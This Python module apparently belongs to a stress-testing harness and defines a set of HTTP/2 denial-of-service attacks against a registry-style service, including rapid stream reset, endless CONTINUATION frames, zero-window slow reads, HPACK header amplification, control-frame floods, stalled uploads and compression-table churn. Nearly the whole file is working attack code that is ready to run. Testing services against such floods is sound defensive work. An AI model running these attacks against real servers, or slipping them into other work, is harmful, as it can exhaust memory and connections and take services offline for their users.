"""Attacks by HTTP/2."""

import os

import http2
from attack import attack
from swarm import Swarm

# A header list of 55 kB: one field of 3.7 kB, remembered once and named 15 times.
FIELD = 3700


def swarm(context, count, make_stream, streams, own_settings=None, tick=None, opening=b"", **options):
    def make(_):
        return http2.Connection(context.counts, make_stream, streams, own_settings, tick, opening)

    options.setdefault("every", 1)
    Swarm(context, count, make, **options).run()


def drip_window(connection):
    """Grants one byte of window to each stream, so that all of them appear to be read."""
    return b"".join(http2.window_update(stream, 1) for stream in sorted(connection.open)[:64])


@attack("h2-unread-blobs", processes=2, addresses=10)
def h2_unread_blobs(context):
    """Streams that request a public blob with a window of zero, and grant a byte of window from time to time."""
    path = f"/v2/pub/big/blobs/{context.facts['big']}"
    block = http2.request("GET", path, context.host)

    def stream(connection, number):
        return http2.head(number, block)

    swarm(context, context.share(20), stream, 128, {http2.INITIAL_WINDOW_SIZE: 0}, drip_window, every=2)



@attack("h2-heads", processes=2, addresses=10, seconds=15)
def h2_heads(context):
    """Streams with as many headers as the server accepts, compressed to a few bytes, for POST /auth/token with a body
    that is never sent."""
    block = http2.request("POST", "/auth/token", context.host)
    field = http2.literal("x-a", b"a" * FIELD, remember=True)

    def stream(connection, number):
        copies = min(15, max(0, (connection.head_limit - 400) // (FIELD + 40)))
        # The first request of a connection puts the field into the table.
        known = field if number == 1 else http2.NEWEST
        return http2.head(number, block + known + http2.NEWEST * (copies - 1), end_stream=False)

    swarm(context, context.share(600), stream, 128, every=60)


@attack("h2-literal-heads", quick=False, processes=2, addresses=10, seconds=15)
def h2_literal_heads(context):
    """The same without compression: 55 kB of headers for each stream."""
    block = http2.request("POST", "/auth/token", context.host)

    def stream(connection, number):
        copies = min(15, max(0, (connection.head_limit - 400) // (FIELD + 40)))
        fields = b"".join(http2.literal(f"x-{at}", b"a" * FIELD) for at in range(copies))
        return http2.head(number, block + fields, end_stream=False)

    swarm(context, context.share(100), stream, 100, every=60)


@attack("h2-unread-refusals", quick=False, processes=2, addresses=10)
def h2_unread_refusals(context):
    """Streams whose 401 is never read, because the window is zero."""
    block = http2.request("GET", "/v2/good/app/tags/list", context.host)

    def stream(connection, number):
        return http2.head(number, block)

    swarm(context, context.share(60), stream, 120, {http2.INITIAL_WINDOW_SIZE: 0}, drip_window)


@attack("h2-unread-lists", is_new=True, mode="pull-open", processes=2, addresses=10)
def h2_unread_lists(context):
    """Streams that request responses built in memory (the OpenAPI document, metrics, lists), with a window of zero."""
    paths = ["/api/v1/openapi.json", "/metrics", "/v2/_catalog?n=10000", "/api/v1/repositories?limit=1000", "/api/v1/usage"]
    blocks = [http2.request("GET", path, context.host) for path in paths]

    def stream(connection, number):
        return http2.head(number, blocks[number // 2 % len(blocks)])

    swarm(context, context.share(20), stream, 128, {http2.INITIAL_WINDOW_SIZE: 0}, drip_window)


@attack("h2-continuation", quick=False, is_new=True, processes=2, addresses=10)
def h2_continuation(context):
    """HEADERS that never end: endless CONTINUATION frames, also empty ones."""
    start = http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.request("GET", "/v2/", context.host))
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x-a", b"a" * 16000))
    more_empty = http2.frame(http2.CONTINUATION, 0, 1) * 1000

    def tick(connection):
        return more + more_empty

    swarm(context, context.share(50), lambda *_: b"", 0, None, tick, start + more * 4, every=0.3)


@attack("h2-control-frames", is_new=True, processes=2, addresses=10)
def h2_control_frames(context):
    """Thousands of PING, SETTINGS, PRIORITY, PRIORITY_UPDATE and WINDOW_UPDATE frames, whose responses are never read."""
    kinds = (
        http2.frame(http2.PING, 0, 0, b"12345678"),
        http2.settings({http2.HEADER_TABLE_SIZE: 65536}),
        http2.settings({http2.INITIAL_WINDOW_SIZE: 1}),
        http2.frame(http2.PRIORITY, 0, 3, b"\0\0\0\x05\x10"),
        http2.frame(http2.PRIORITY_UPDATE, 0, 0, b"\0\0\0\x05u=1"),
        http2.window_update(0, 1),
    )
    floods = [kind * 5000 for kind in kinds]

    class Flood(http2.Connection):
        number = 0

        def tick(self):
            self.number += 1
            return floods[self.number % len(floods)]

    def make(_):
        return Flood(context.counts, None, 0)

    Swarm(context, context.share(20), make, every=0.2, read=False, receive_buffer=4096).run()


@attack("h2-rapid-reset", is_new=True, mode="pull-open", processes=2, addresses=10)
def h2_rapid_reset(context):
    """Requests for lists and reports that are reset immediately."""
    paths = ["/v2/_catalog?n=10000", "/api/v1/repositories?sort=size", "/api/v1/usage", "/v2/pub/app/manifests/v1"]
    blocks = [http2.request("GET", path, context.host) for path in paths]

    class Resetter(http2.Connection):
        def fill(self):
            out = []
            if not self.is_going_away:
                for _ in range(50):
                    out.append(http2.head(self.next_stream, blocks[self.next_stream // 2 % len(blocks)]))
                    out.append(http2.reset(self.next_stream))
                    self.next_stream += 2
            self.counts["streams"] += len(out) // 2
            return b"".join(out)

        def tick(self):
            return self.fill()

    def make(_):
        return Resetter(context.counts, None, 0)

    Swarm(context, context.share(10), make, every=0.1).run()


@attack("h2-stalled-uploads", is_new=True, mode="open", user="mallory", processes=2, addresses=10)
def h2_stalled_uploads(context):
    """Uploads, manifests and API bodies on all streams that stop after 16 kB."""
    requests = [
        http2.request("POST", "/v2/evil/h2/blobs/uploads/?digest=sha256:" + "0" * 64, context.host, context.fields),
        http2.request("PUT", "/v2/evil/h2/manifests/v1", context.host, [*context.fields, ("content-type", "application/vnd.oci.image.manifest.v1+json")]),
        http2.request("POST", "/api/v1/retention/check", context.host, [*context.fields, ("content-type", "application/json")]),
    ]
    body = b" " * http2.MAX_FRAME

    def stream(connection, number):
        block = requests[number // 2 % len(requests)]
        data = http2.frame(http2.DATA, 0, number, body)
        # The first streams fill the connection's window. Later streams send only their heads.
        return http2.head(number, block, end_stream=False) + (data if number < 8 else b"")

    swarm(context, context.share(40), stream, 128, every=5)


@attack("h2-empty-data", quick=False, is_new=True, mode="open", user="mallory", processes=2, addresses=4)
def h2_empty_data(context):
    """Uploads in DATA frames that are empty, have one byte, or contain only padding."""
    block = http2.request("POST", "/v2/evil/h2/blobs/uploads/?digest=sha256:" + "0" * 64, context.host, context.fields)

    def stream(connection, number):
        return http2.head(number, block, end_stream=False)

    def tick(connection):
        out = []
        for stream in sorted(connection.open)[:4]:
            out.append(http2.frame(http2.DATA, 0, stream) * 500)
            out.append(http2.frame(http2.DATA, 0, stream, b"x") * 500)
            out.append(http2.frame(http2.DATA, 8, stream, b"\xff" + bytes(255)) * 20)
        return b"".join(out)

    swarm(context, context.share(10), stream, 16, tick=tick, every=0.2)


@attack("h2-table-churn", quick=False, is_new=True, processes=2, addresses=10)
def h2_table_churn(context):
    """Every request refills the header compression table, with hundreds of cookie fields."""
    block = http2.request("GET", "/v2/", context.host)

    def stream(connection, number):
        seed = os.urandom(8).hex()
        fields = b"".join(http2.literal("cookie", f"{seed}{at}", remember=True) for at in range(200))
        return http2.head(number, block + fields)

    swarm(context, context.share(10), stream, 32, every=60)
